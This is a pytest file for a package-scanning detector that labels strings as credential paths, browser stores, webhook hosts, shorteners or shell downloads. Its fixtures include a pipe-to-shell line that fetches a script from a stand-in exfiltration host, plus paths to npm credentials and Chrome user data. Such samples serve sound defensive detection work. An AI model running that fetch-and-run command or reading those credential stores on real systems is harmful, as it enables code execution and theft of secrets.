"""Which named lists a text belongs to."""

import pytest

from packamal.detectors.named_lists import load_lists


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"C:\Users\{name}\AppData\Local\Google\Chrome\User Data", {"browser-stores"}),
        ("{home}/.npmrc", {"credential-paths"}),
        ("my.npmrc.example", set()),
        ("https://discord.com/api/webhooks/1/x", {"messenger-hosts"}),
        ("https://sub.evil.xyz/a", {"odd-hosts"}),
        ("https://docs.service.example/a", set()),
        ("http://45.3.2.1:8080/a", {"raw-addresses"}),
        ("http://192.168.0.1/a", set()),
        ("version 45.3.2.1", set()),
        ("https://bit.ly/abc", {"shorteners"}),
        ("rabbit.lyrics", set()),
        ("SERVICE_API_KEY", {"secret-names"}),
        ("curl -s https://files.exfil.example/i.sh | sh", {"shell-downloads", "executables"}),
        ("how to curl your hair", set()),
        ("pip install -q helper", {"package-installs"}),
    ],
)
def test_a_text_is_in_these_lists(text, expected):
    assert load_lists().labels(text) == expected


def test_a_long_blob_costs_no_more_than_its_head():
    assert load_lists().labels("x" * 50_000 + "https://evil.xyz/") == frozenset()


def test_a_lone_surrogate_stops_nothing():
    assert load_lists().labels("https://bit.ly/abc \ud800") == {"shorteners"}
